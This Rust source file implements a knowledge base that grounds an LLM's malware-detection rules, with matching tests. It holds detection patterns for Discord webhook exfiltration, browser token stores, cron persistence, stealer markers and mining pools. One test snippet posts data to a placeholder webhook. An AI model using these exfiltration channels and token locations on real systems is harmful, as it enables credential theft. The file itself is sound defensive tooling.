//! Retrieval-augmented generation (the paper's §VI extension).
//!
//! The paper notes that RuleLLM is a knowledge-intensive task where RAG
//! "can update security knowledge to guarantee the generated rule
//! quality" and mitigate hallucinations, but leaves it unimplemented.
//! This module supplies that extension: a [`KnowledgeBase`] of curated
//! security facts that is *retrieved against the prompt payload* and used
//! to (a) recover indicators the model missed, and (b) veto fabricated or
//! over-general strings before they reach a rule.

use textmatch::Regex;

use crate::analyzer::{Analysis, Indicator, IndicatorKind};

/// One curated security fact.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KnowledgeEntry {
    /// Substring (or regex when `is_regex`) that triggers retrieval.
    pub pattern: String,
    /// Whether `pattern` is a regular expression.
    pub is_regex: bool,
    /// The indicator category the fact supports.
    pub kind: IndicatorKind,
    /// Analyst note (kept for report rendering).
    pub note: &'static str,
}

/// A retrieval store of security knowledge.
#[derive(Debug, Clone, Default)]
pub struct KnowledgeBase {
    /// Each fact beside its compiled pattern. `None` for substring
    /// entries, and for a regex entry whose pattern does not compile —
    /// retrieval skips those.
    entries: Vec<(KnowledgeEntry, Option<Regex>)>,
    /// Strings known to be ubiquitous in benign code; retrieval vetoes
    /// them out of analyses (anti-overgeneral knowledge).
    benign: Vec<&'static str>,
}

impl KnowledgeBase {
    /// An empty knowledge base (retrieval becomes a no-op).
    pub fn new() -> Self {
        KnowledgeBase::default()
    }

    /// The built-in OSS-malware knowledge base: abuse-heavy TLDs, known
    /// exfiltration endpoints, family markers, VM fingerprints, and the
    /// benign-string veto list.
    pub fn security_default() -> Self {
        let mut kb = KnowledgeBase::new();
        for (pattern, kind, note) in [
            (
                r"https?://[\w.-]+\.(xyz|top|icu|click|space|online|site)[/\w.-]*",
                IndicatorKind::Ioc,
                "URL on an abuse-heavy TLD",
            ),
            (
                r"discord\.com/api/webhooks/\d+/[\w-]+",
                IndicatorKind::Network,
                "Discord webhook exfiltration endpoint",
            ),
            (r"[\w.-]+\.onion", IndicatorKind::Ioc, "Tor hidden service"),
        ] {
            kb.push(KnowledgeEntry {
                pattern: pattern.to_owned(),
                is_regex: true,
                kind,
                note,
            });
        }
        for (pattern, kind, note) in [
            ("w4sp", IndicatorKind::Ioc, "W4SP stealer family marker"),
            (
                "wasp-stealer",
                IndicatorKind::Ioc,
                "W4SP stealer family marker",
            ),
            (
                "080027",
                IndicatorKind::AntiDebug,
                "VirtualBox MAC prefix check",
            ),
            (
                "000c29",
                IndicatorKind::AntiDebug,
                "VMware MAC prefix check",
            ),
            ("crontab -", IndicatorKind::File, "cron persistence"),
            (
                "/Local Storage/leveldb",
                IndicatorKind::File,
                "browser token store",
            ),
            (
                "stratum+tcp://",
                IndicatorKind::Network,
                "mining pool protocol",
            ),
        ] {
            kb.push(KnowledgeEntry {
                pattern: pattern.to_owned(),
                is_regex: false,
                kind,
                note,
            });
        }
        kb.benign = vec![
            "import os",
            "import sys",
            "import requests",
            "import base64",
            "subprocess",
            "open(",
            "def main",
            "print(",
            "evil_helper_3000",
            "self_destruct_sequence",
            "http://not-actually-present.invalid/payload",
            "DecryptAndLaunchMissiles",
        ];
        kb
    }

    /// Adds a fact, compiling a regex pattern here so retrieval never
    /// does.
    fn push(&mut self, entry: KnowledgeEntry) {
        let compiled = entry
            .is_regex
            .then(|| Regex::new(&entry.pattern).ok())
            .flatten();
        self.entries.push((entry, compiled));
    }

    /// Number of retrievable facts.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Returns true when the base holds no facts.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Retrieves indicators supported by the knowledge base for `code`.
    pub fn retrieve(&self, code: &str) -> Vec<Indicator> {
        let mut out = Vec::new();
        let bytes = code.as_bytes();
        for (entry, compiled) in &self.entries {
            if entry.is_regex {
                let Some(re) = compiled else {
                    continue;
                };
                for m in re.find_all(bytes).into_iter().take(3) {
                    out.push(Indicator {
                        text: String::from_utf8_lossy(&bytes[m.start..m.end]).into_owned(),
                        kind: entry.kind,
                        is_regex: false,
                    });
                }
            } else if code.contains(&entry.pattern) {
                out.push(Indicator {
                    text: entry.pattern.clone(),
                    kind: entry.kind,
                    is_regex: false,
                });
            }
        }
        out
    }

    /// Augments an analysis with retrieved knowledge: re-adds facts the
    /// model missed (grounding against misses) and removes indicators the
    /// base knows to be benign or that the code provably does not contain
    /// (grounding against hallucination and over-general strings).
    pub fn ground(&self, analysis: &mut Analysis, code: &str) {
        // Veto: known-benign strings and fabrications absent from code.
        analysis.indicators.retain(|ind| {
            if self.benign.contains(&ind.text.as_str()) {
                return false;
            }
            ind.is_regex || code.contains(&ind.text)
        });
        // Recover: retrieved facts not already present.
        for fact in self.retrieve(code) {
            if !analysis.indicators.iter().any(|i| i.text == fact.text) {
                analysis.indicators.push(fact);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_base_is_populated() {
        let kb = KnowledgeBase::security_default();
        assert!(kb.len() >= 8);
        assert!(!kb.is_empty());
    }

    #[test]
    fn retrieves_abuse_tld_urls() {
        let kb = KnowledgeBase::security_default();
        let facts = kb.retrieve("requests.get('https://zorbex.xyz/tasks')");
        assert!(
            facts.iter().any(|f| f.text.contains("zorbex.xyz")),
            "{facts:?}"
        );
    }

    #[test]
    fn retrieves_family_markers() {
        let kb = KnowledgeBase::security_default();
        let facts = kb.retrieve("# w4sp-stage marker\n");
        assert!(facts.iter().any(|f| f.text == "w4sp"));
    }

    #[test]
    fn grounding_removes_hallucinations() {
        let kb = KnowledgeBase::security_default();
        let mut analysis = Analysis {
            indicators: vec![Indicator {
                text: "evil_helper_3000".into(),
                kind: IndicatorKind::Ioc,
                is_regex: false,
            }],
            summary: "x".into(),
        };
        kb.ground(&mut analysis, "print('clean')");
        assert!(analysis.indicators.is_empty());
    }

    #[test]
    fn grounding_removes_fabricated_strings_absent_from_code() {
        let kb = KnowledgeBase::security_default();
        let mut analysis = Analysis {
            indicators: vec![Indicator {
                text: "os.fork_bomb".into(),
                kind: IndicatorKind::Privilege,
                is_regex: false,
            }],
            summary: "x".into(),
        };
        kb.ground(&mut analysis, "import os\n");
        assert!(analysis.indicators.is_empty());
    }

    #[test]
    fn grounding_recovers_missed_facts() {
        let kb = KnowledgeBase::security_default();
        let mut analysis = Analysis::default();
        kb.ground(
            &mut analysis,
            "requests.post('https://discord.com/api/webhooks/123456789/abcDEF-ghi', json=d)",
        );
        assert!(
            analysis
                .indicators
                .iter()
                .any(|i| i.text.contains("discord.com/api/webhooks")),
            "{:?}",
            analysis.indicators
        );
    }

    #[test]
    fn grounding_keeps_real_indicators() {
        let kb = KnowledgeBase::security_default();
        let mut analysis = Analysis {
            indicators: vec![Indicator {
                text: "os.system".into(),
                kind: IndicatorKind::Privilege,
                is_regex: false,
            }],
            summary: "x".into(),
        };
        kb.ground(&mut analysis, "os.system('id')");
        assert_eq!(analysis.indicators.len(), 1);
    }

    #[test]
    fn empty_base_is_a_partial_noop() {
        let kb = KnowledgeBase::new();
        let mut analysis = Analysis {
            indicators: vec![Indicator {
                text: "os.system".into(),
                kind: IndicatorKind::Privilege,
                is_regex: false,
            }],
            summary: "x".into(),
        };
        kb.ground(&mut analysis, "os.system('id')");
        assert_eq!(analysis.indicators.len(), 1);
        assert!(kb.retrieve("anything").is_empty());
    }
}
